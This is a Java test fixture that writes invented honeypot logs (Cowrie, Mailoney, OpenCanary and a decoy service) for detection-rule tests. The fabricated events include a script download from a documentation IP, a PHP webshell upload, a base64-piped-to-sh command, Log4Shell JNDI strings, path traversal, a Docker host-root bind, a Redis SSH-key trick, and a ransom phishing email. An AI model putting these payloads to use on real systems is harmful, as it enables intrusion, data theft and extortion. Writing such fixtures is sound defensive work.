package org.decnet.acceptance.rules;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import tools.jackson.databind.json.JsonMapper;

/** Invented logs of sensors, for rules about other things than typed commands. */
final class SampleLogs {
  static final String JARM = "00000000000000000043d43d00043de2a97eabb398317329f027c66e4c1b";
  static final String DRIVER = "browser\tcafe01:beef02\tplaywright\ttool\n";

  private static final JsonMapper JSON = JsonMapper.shared();
  private static final String WALLET = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT";

  private SampleLogs() {}

  static void write(Path folder) throws IOException {
    Files.write(folder.resolve("cowrie.json"), cowrie());
    Files.write(folder.resolve("decky.log"), decky());
    Files.write(folder.resolve("mailoney.log"), mailoney());
    Files.write(folder.resolve("opencanary.log"), opencanary());
  }

  private static List<String> cowrie() {
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < 6; i++) {
      lines.add(cowrie("login.failed", "a1", "198.51.100.21", "web-1", i, login("root", "p" + i)));
    }
    lines.add(cowrie("login.success", "a2", "198.51.100.21", "web-1", 20, login("root", "root")));
    lines.add(cowrie("login.failed", "a3", "198.51.100.22", "web-1", 1, login("ops", "spring-26")));
    lines.add(cowrie("login.failed", "a4", "198.51.100.22", "db-1", 2, login("ops", "spring-26")));
    for (int i = 0; i < 8; i++) {
      lines.add(cowrie("session.connect", "b" + i, "198.51.100.23", "web-1", 60 * i, ssh()));
    }
    lines.add(cowrie("session.connect", "c1", "198.51.100.24", "web-1", 0, ssh()));
    lines.add(cowrie("command.input", "c1", "198.51.100.24", "web-1", 1, "\"input\":\"uname -a\""));
    lines.add(cowrie("session.closed", "c1", "198.51.100.24", "web-1", 2, "\"duration_ms\":2000"));
    for (int i = 0; i < 60; i++) {
      lines.add(
          cowrie(
              "direct-tcpip.request",
              "d1",
              "198.51.100.25",
              "web-1",
              i,
              "\"dst_ip\":\"203.0.113.20\",\"dst_port\":443,\"src_port\":50001"));
    }
    lines.add(
        cowrie(
            "direct-tcpip.request",
            "e1",
            "198.51.100.26",
            "web-1",
            1,
            "\"dst_ip\":\"203.0.113.20\",\"dst_port\":80,\"src_port\":5,\"src_ip\":\"fe80::216:3eff:fe12:3456\""));
    lines.add(
        cowrie(
            "session.file_download",
            "f1",
            "198.51.100.27",
            "web-1",
            1,
            "\"url\":\"http://203.0.113.20/x.sh\",\"shasum\":\""
                + "ab".repeat(32)
                + "\",\"outfile\":\"dl/x\""));
    lines.add(
        cowrie(
            "session.file_upload",
            "f2",
            "198.51.100.27",
            "web-1",
            2,
            "\"filename\":\"/var/www/html/s.php\",\"shasum\":\""
                + "cd".repeat(32)
                + "\",\"outfile\":\"dl/y\""));
    lines.add(
        cowrie(
            "command.input",
            "g1",
            "198.51.100.28",
            "web-1",
            1,
            "\"input\":\"echo aWQK | base64 -d | sh\""));
    return lines;
  }

  private static String cowrie(
      String type, String session, String ip, String sensor, int second, String more) {
    return String.format(
        Locale.ROOT,
        "{\"eventid\":\"cowrie.%s\",\"session\":\"%s\",\"src_ip\":\"%s\",\"sensor\":\"%s\","
            + "\"timestamp\":\"2026-03-02T10:%02d:%02d.000001Z\",%s}",
        type,
        session,
        ip,
        sensor,
        second / 60,
        second % 60,
        more);
  }

  private static String login(String user, String password) {
    return "\"username\":\"" + user + "\",\"password\":\"" + password + "\",\"protocol\":\"ssh\"";
  }

  private static String ssh() {
    return "\"protocol\":\"ssh\",\"src_port\":50001,\"dst_ip\":\"192.0.2.4\",\"dst_port\":2222";
  }

  private static List<String> decky() {
    return List.of(
        decky(
            1,
            "http",
            "request",
            "w1",
            "method=\"GET\" path=\"/login\" headers=\"User-Agent: sqlmap/1.8\""),
        decky(
            2,
            "http",
            "request",
            "w1",
            "method=\"GET\" path=\"/?x=${jndi:ldap://203.0.113.20/a}\""),
        decky(3, "http", "request", "w1", "method=\"GET\" path=\"/..%2F..%2F..%2Fetc/passwd\""),
        decky(4, "http", "request", "w1", "method=\"GET\" path=\"/.env\""),
        decky(5, "k8s", "request", "w2", "method=\"GET\" path=\"/api/v1/namespaces/prod/secrets\""),
        decky(
            6,
            "docker_api",
            "request",
            "w3",
            "method=\"POST\" path=\"/v1.41/containers/create\" body=\"{\\\"Image\\\":\\\"alpine\\\",\\\"HostConfig\\\":{\\\"Binds\\\":[\\\"/:/host\\\"\\]}}\""),
        decky(7, "redis", "command", "r1", "cmd=\"CONFIG\" args=\"SET dir /root/.ssh\""),
        decky(8, "mysql", "query", "m1", "query=\"SELECT * FROM shop\" rows=\"20000\""),
        decky(9, "mysql", "query", "m1", "query=\"DROP TABLE shop\""),
        decky(
            10,
            "mysql",
            "query",
            "m1",
            "query=\"INSERT INTO README VALUES ('send bitcoin to " + WALLET + "')\""),
        decky(11, "mysql", "disconnect", "m1", "duration_s=\"9\""),
        decky(
            12,
            "llmnr",
            "answer",
            "n1",
            "name=\"wpad\" qtype=\"A\" poisoned=\"true\" poisoned_query=\"wpad\" victim_host=\"pc-7\""),
        decky(
            13,
            "mdns",
            "answer",
            "n2",
            "name=\"printer\" qtype=\"A\" poisoned=\"true\" poisoned_query=\"printer\" victim_host=\"pc-7\""),
        decky(14, "tftp", "request", "t1", "op=\"read\" filename=\"router-confg\" mode=\"octet\""),
        decky(15, "tftp", "request", "t1", "op=\"read\" filename=\".env\" mode=\"octet\""),
        decky(16, "prober", "jarm", "p1", "value=\"" + JARM + "\""),
        decky(17, "http", "ja4h", "h1", "value=\"ge11nn0000_a_b_c\""),
        decky(18, "http", "http2_settings", "h2", "value=\"1:65536;2:0\""),
        decky(19, "http", "ja4_quic", "h3", "value=\"q13d0310h3_55b375c5d22e_cd85d2d88918\""),
        decky(
            20,
            "canary",
            "trigger",
            "",
            "token_id=\"t-1\" kind=\"http\" generator=\"fingerprint_html\" first=\"true\" path=\"/c/x\""
                + " user_agent=\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120\""
                + " nav.webdriver=\"true\" nav.platform=\"Linux x86_64\" nav.languages=\"ru-RU\""
                + " tz.offset=\"540\" src.offset=\"60\" src.country=\"FR\" cv=\"cafe01\" au=\"beef02\""
                + " gl=\"ANGLE (SwiftShader)\" rtc=\"10.0.0.5\""),
        decky(
            23,
            "canary",
            "trigger",
            "",
            "token_id=\"t-2\" kind=\"aws_passive\" generator=\"aws_creds\" first=\"true\" path=\"/\""),
        decky(
            24,
            "canary",
            "trigger",
            "",
            "token_id=\"t-3\" kind=\"dns\" generator=\"env_file\" first=\"true\" qname=\"x.example\""),
        decky(21, "ftp", "download_attempt", "q1", "path=\"/app/.env\""),
        decky(22, "tcp", "payload", "q2", "data=\"x${jndi:ldap://203.0.113.20/a}\""));
  }

  private static String decky(
      int second, String service, String type, String session, String values) {
    return String.format(
        Locale.ROOT,
        "<134>1 2026-03-02T11:00:%02d.000001Z decky-1 %s - %s [relay@55555 src_ip=\"198.51.100.31\""
            + " src_port=\"50001\"%s %s]",
        second,
        service,
        type,
        session.isEmpty() ? "" : " sid=\"" + session + "\"",
        values);
  }

  private static List<String> mailoney() {
    List<String> lines = new ArrayList<>();
    lines.add(mail(1, "EHLO relay.example"));
    lines.add(mail(2, "MAIL FROM:<robot@relay.example>"));
    for (int i = 0; i < 30; i++) {
      lines.add(mail(3 + i, "RCPT TO:<user" + i + "@shop.example>"));
    }
    lines.add(mail(40, "DATA"));
    lines.add(mail(41, message()));
    lines.add(mail(42, "QUIT"));
    return lines;
  }

  private static String mail(int second, String data) {
    return String.format(
        Locale.ROOT,
        "{\"timestamp\":\"2026-03-02T12:00:%02d.000000Z\",\"src_ip\":\"198.51.100.41\",\"src_port\":50001,"
            + "\"data\":%s,\"smtp_input\":[]}",
        second,
        JSON.writeValueAsString(data));
  }

  private static String message() {
    return """
    From: Bank <service@bank.example>
    Return-Path: <bounce@elsewhere.example>
    Subject: Urgent wire
    X-Mailer: gophish
    Authentication-Results: mx; spf=fail; dkim=fail
    Content-Type: multipart/mixed; boundary=b

    --b
    Content-Type: text/plain

    Please send the transfer to http://xn--80ak6aa92e.example/ or your files stay locked.
    Pay bitcoin to %s.
    %s
    --b
    Content-Disposition: attachment; filename=start.lnk

    x
    --b--
    """
        .replaceFirst("%s", WALLET)
        .replace("%s", "QUJD".repeat(2000));
  }

  private static List<String> opencanary() {
    return List.of(
        "{\"dst_host\": \"192.0.2.4\", \"dst_port\": 445, \"local_time\": \"2026-03-02 13:00:00.000001\","
            + " \"local_time_adjusted\": \"2026-03-02 13:00:00.000001\", \"logdata\": {\"USER\": \"ann\","
            + " \"SHARENAME\": \"docs\", \"FILENAME\": \"home/.ssh/id_rsa\", \"AUDITACTION\": \"pread\"},"
            + " \"logtype\": 5000, \"node_id\": \"canary-1\", \"src_host\": \"198.51.100.51\","
            + " \"src_port\": 50001, \"utc_time\": \"2026-03-02 13:00:00.000001\"}");
  }
}
